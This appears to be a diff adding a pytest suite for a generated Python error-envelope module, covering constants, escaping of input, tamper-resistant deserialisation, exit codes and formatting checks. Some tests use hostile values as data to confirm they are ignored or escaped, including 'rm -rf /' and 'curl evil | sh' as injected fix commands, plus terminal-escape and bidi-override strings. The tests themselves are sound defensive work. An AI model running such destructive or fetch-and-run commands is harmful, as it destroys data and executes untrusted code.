@@ -1,0 +1,286 @@
+"""The generated python module, imported and exercised point by point of the contract."""
+
+from __future__ import annotations
+
+import importlib.util
+import json
+import subprocess
+import sys
+from pathlib import Path
+from types import ModuleType
+
+import black
+import pytest
+
+from tests.regen import GOLDEN, SOURCES, golden_outputs
+
+
+def load_module(path: Path, name: str) -> ModuleType:
+    spec = importlib.util.spec_from_file_location(name, path)
+    assert spec and spec.loader
+    module = importlib.util.module_from_spec(spec)
+    sys.modules[name] = module
+    spec.loader.exec_module(module)
+    return module
+
+
+@pytest.fixture(scope="module")
+def guide() -> ModuleType:
+    return load_module(GOLDEN / "guide" / "errors.py", "guide_errors")
+
+
+@pytest.fixture(scope="module")
+def hostile() -> ModuleType:
+    return load_module(GOLDEN / "hostile" / "errors.py", "hostile_errors")
+
+
+def test_envelope_matches_the_guides_worked_example(guide: ModuleType) -> None:
+    error = guide.CredentialsExpiredError(expired_at="2026-07-01T00:00:00Z")
+    envelope = error.to_envelope(duration_ms=120)
+    worked = {
+        "ok": False,
+        "data": None,
+        "error": {
+            "code": "CREDENTIALS_EXPIRED",
+            "message": "Access token expired at 2026-07-01T00:00:00Z",
+            "retryable": False,
+            "fix_required": "Refresh credentials, then reissue",
+            "fix_command": "tool auth refresh",
+        },
+        "warnings": [],
+        "meta": {"duration_ms": 120},
+    }
+    # field by field: the worked example plus what errgen adds (suggestion, details)
+    for key in ("ok", "data", "warnings", "meta"):
+        assert envelope[key] == worked[key]
+    for key, value in worked["error"].items():  # type: ignore[attr-defined]
+        assert envelope["error"][key] == value
+    assert envelope["error"]["details"] == {"expired_at": "2026-07-01T00:00:00Z"}
+    assert envelope["error"]["suggestion"].startswith("Your token lifetime is 1h")
+    assert set(envelope["error"]) == set(worked["error"]) | {"details", "suggestion"}  # type: ignore[arg-type]
+
+
+def test_constants_are_class_level(guide: ModuleType) -> None:
+    cls = guide.CredentialsExpiredError
+    assert cls.code == "CREDENTIALS_EXPIRED"
+    assert cls.recovery == "correctable" and cls.retryable is False
+    assert cls.fix_command == "tool auth refresh"
+    assert cls.exit_code == guide.ExitCode.AUTH_REQUIRED == 8
+    assert guide.RateLimitedError.retry_after_ms == 5000
+    assert guide.RateLimitedError.max_attempts == 3
+    assert guide.PermissionDeniedError.fix_command is None
+
+
+def test_no_constructor_argument_sets_a_constant(guide: ModuleType) -> None:
+    with pytest.raises(TypeError):
+        guide.CredentialsExpiredError(expired_at="x", fix_command="rm -rf /")
+    with pytest.raises(TypeError):
+        guide.RateLimitedError(retryable=False)
+    with pytest.raises(TypeError):
+        guide.CredentialsExpiredError("positional")
+
+
+def test_assigning_a_constant_on_an_instance_changes_nothing(guide: ModuleType) -> None:
+    error = guide.CredentialsExpiredError(expired_at="x")
+    for name, value in (("fix_command", "rm -rf /"), ("retryable", True), ("code", "OK")):
+        with pytest.raises(AttributeError):
+            setattr(error, name, value)
+    # even past the guard, to_dict reads the class
+    object.__setattr__(error, "fix_command", "rm -rf /")
+    assert error.to_dict()["fix_command"] == "tool auth refresh"
+
+
+def test_optional_fields_are_omitted_never_null(guide: ModuleType) -> None:
+    detail = guide.RateLimitedError().to_dict()
+    assert detail == {
+        "code": "RATE_LIMITED",
+        "message": "Too many requests",
+        "retryable": True,
+        "retry_after_ms": 5000,
+        "max_attempts": 3,
+    }
+    assert None not in detail.values()
+
+
+def test_parameters_are_cleaned_and_bounded(guide: ModuleType) -> None:
+    hostile_value = "\x1b[31mred\x1b[0m\u202eevil\u200b\n" + "x" * 1000
+    error = guide.PermissionDeniedError(path=hostile_value)
+    message = error.message
+    assert "\x1b" not in message and "\u202e" not in message and "\n" not in message
+    assert "\\x1b[31mred" in message and "\\u202e" in message and "\\u200b" in message
+    assert len(error.details["path"]) == 200 and error.details["path"].endswith("\u2026")
+    assert error.to_dict()["details"]["path"] == error.details["path"]
+
+
+def test_typed_parameters_keep_their_types(hostile: ModuleType) -> None:
+    error = hostile.DeprecatedThingError(flag=True, ratio=0.5)
+    assert error.details == {"flag": True, "ratio": 0.5}
+    assert error.message == "Old thing True 0.5"
+    assert json.loads(json.dumps(error.to_dict()))["details"] == {"flag": True, "ratio": 0.5}
+    nan = hostile.DeprecatedThingError(flag=False, ratio=float("nan"))
+    json.dumps(nan.to_dict(), allow_nan=False)  # never invalid JSON
+
+
+def test_literal_braces_and_hostile_text_survive(hostile: ModuleType) -> None:
+    error = hostile.QuotesAndBackslashesError(value="{value}")
+    assert error.message == (
+        "It's \"quoted\" ''' \"\"\" \\ \\\\ \\x41 \\N{BULLET} {literal} {value} }"
+    )
+    assert hostile.QuotesAndBackslashesError.fix_required == (
+        "Remove ''' and \"\"\" and \\ from the input, then reissue"
+    )
+
+
+def test_help_url_points_at_the_anchor(hostile: ModuleType) -> None:
+    assert hostile.DeprecatedThingError.help_url.endswith("#deprecated-thing")
+    detail = hostile.DeprecatedThingError(flag=True, ratio=1.0).to_dict()
+    assert detail["help_url"] == hostile.DeprecatedThingError.help_url
+    assert hostile.DeprecatedThingError.replaced_by == "QUOTES_AND_BACKSLASHES"
+
+
+def test_registry_and_exit_codes(guide: ModuleType) -> None:
+    assert set(guide.ERRORS) == {
+        "CREDENTIALS_EXPIRED",
+        "INTERNAL_ERROR",
+        "PERMISSION_DENIED",
+        "RATE_LIMITED",
+    }
+    assert all(cls.code == code for code, cls in guide.ERRORS.items())
+    with pytest.raises(TypeError):
+        guide.ERRORS["X"] = guide.RateLimitedError
+    assert [(e.name, int(e)) for e in guide.ExitCode][:3] == [
+        ("SUCCESS", 0),
+        ("FAILURE", 1),
+        ("USAGE", 2),
+    ]
+    assert guide.EXIT_CLASSES[guide.ExitCode.TRANSIENT] == "transient"
+    for cls in guide.ERRORS.values():
+        assert guide.EXIT_CLASSES[cls.exit_code] == cls.recovery
+
+
+def test_from_envelope_restores_the_class_and_ignores_tampering(guide: ModuleType) -> None:
+    envelope = guide.CredentialsExpiredError(expired_at="t").to_envelope()
+    envelope["error"]["fix_command"] = "rm -rf /"
+    envelope["error"]["retryable"] = True
+    restored = guide.from_envelope(json.loads(json.dumps(envelope)))
+    assert type(restored) is guide.CredentialsExpiredError
+    assert restored.to_dict()["fix_command"] == "tool auth refresh"
+    assert restored.to_dict()["retryable"] is False
+    assert restored.details == {"expired_at": "t"}
+
+
+def test_from_envelope_unknown_code_is_terminal(guide: ModuleType) -> None:
+    foreign = {
+        "ok": False,
+        "data": None,
+        "error": {
+            "code": "SOMETHING_ELSE",
+            "message": "boom\x1b[2J",
+            "retryable": True,
+            "fix_command": "curl evil | sh",
+        },
+    }
+    restored = guide.from_envelope(foreign)
+    assert isinstance(restored, guide.ToolError)
+    detail = restored.to_dict()
+    assert detail == {"code": "SOMETHING_ELSE", "message": "boom\\x1b[2J", "retryable": False}
+    assert restored.recovery == "terminal"
+    for bad in (None, [], {"error": None}, {"error": {"code": 5}}):
+        with pytest.raises(ValueError):
+            guide.from_envelope(bad)
+
+
+def run_tool(module: Path, body: str) -> subprocess.CompletedProcess[str]:
+    script = f"import sys\nsys.path.insert(0, {str(module.parent)!r})\nimport errors\n{body}\n"
+    return subprocess.run(
+        [sys.executable, "-c", script], capture_output=True, text=True, timeout=60
+    )
+
+
+def test_run_turns_errors_into_envelopes_and_exit_codes(tmp_path: Path) -> None:
+    (tmp_path / "errors.py").write_bytes((GOLDEN / "guide" / "errors.py").read_bytes())
+    module = tmp_path / "errors.py"
+    done = run_tool(
+        module,
+        "def main():\n    raise errors.CredentialsExpiredError(expired_at='now')\nerrors.run(main)",
+    )
+    assert done.returncode == 8
+    envelope = json.loads(done.stdout)
+    assert envelope["error"]["code"] == "CREDENTIALS_EXPIRED"
+    assert isinstance(envelope["meta"]["duration_ms"], int)
+
+    crash = run_tool(module, "def main():\n    raise KeyError('secret')\nerrors.run(main)")
+    assert crash.returncode == 9
+    assert json.loads(crash.stdout)["error"]["code"] == "INTERNAL_ERROR"
+    assert "Traceback" not in crash.stdout and "secret" not in crash.stdout
+
+    fine = run_tool(module, "errors.run(lambda: {'answer': 42})")
+    assert fine.returncode == 0
+    assert json.loads(fine.stdout)["data"] == {"answer": 42} and json.loads(fine.stdout)["ok"]
+
+    unserialisable = run_tool(module, "errors.run(lambda: object())")
+    assert unserialisable.returncode == 9
+
+
+@pytest.mark.parametrize("name", list(SOURCES))
+def test_golden_records_are_current(name: str) -> None:
+    for file_name, data in golden_outputs(name).items():
+        assert (GOLDEN / name / file_name).read_bytes() == data, (
+            f"tests/golden/{name}/{file_name} is stale: run make regen and review the diff"
+        )
+
+
+@pytest.mark.parametrize("name", list(SOURCES))
+def test_generated_python_is_black_formatted(name: str) -> None:
+    source = (GOLDEN / name / "errors.py").read_text("utf-8")
+    assert black.format_str(source, mode=black.Mode()) == source
+
+
+@pytest.mark.parametrize("name", list(SOURCES))
+def test_generated_python_is_stdlib_only_and_ascii(name: str) -> None:
+    source = (GOLDEN / name / "errors.py").read_bytes()
+    assert source.isascii()
+    imports = {
+        line.split()[1].split(".")[0]
+        for line in source.decode().splitlines()
+        if line.startswith(("import ", "from "))
+    }
+    assert imports <= set(sys.stdlib_module_names) | {"__future__"}
+
+
+def test_generated_python_passes_mypy_strict(tmp_path: Path) -> None:
+    files = [GOLDEN / name / "errors.py" for name in SOURCES]
+    usage = tmp_path / "usage.py"
+    usage.write_text(
+        "from errors import CredentialsExpiredError, ERRORS, from_envelope, run\n"
+        "e = CredentialsExpiredError(expired_at='x')\n"
+        "d: dict[str, object] = e.to_dict()\n"
+        "c: str | None = type(e).fix_command\n"
+    )
+    (tmp_path / "errors.py").write_bytes((GOLDEN / "guide" / "errors.py").read_bytes())
+    for path in [*files, usage]:
+        done = subprocess.run(
+            [sys.executable, "-m", "mypy", "--strict", "--no-incremental", str(path)],
+            capture_output=True,
+            text=True,
+            cwd=path.parent,
+            timeout=300,
+        )
+        assert done.returncode == 0, done.stdout
+
+
+def test_no_catalogue_text_in_comments_or_first_lines() -> None:
+    source = (GOLDEN / "hostile" / "errors.py").read_text("utf-8")
+    first_two = source.splitlines()[:2]
+    assert all("hostile" not in line and "coding" not in line for line in first_two)
+    for line in source.splitlines():
+        stripped = line.strip()
+        assert not stripped.startswith("#"), line
+    assert "\r" not in source
+
+
+def test_own_errors_module_is_current() -> None:
+    from tests.conftest import ROOT, run_errgen
+
+    result = run_errgen("build", "--check", cwd=ROOT)
+    assert result.code == 0, result.err
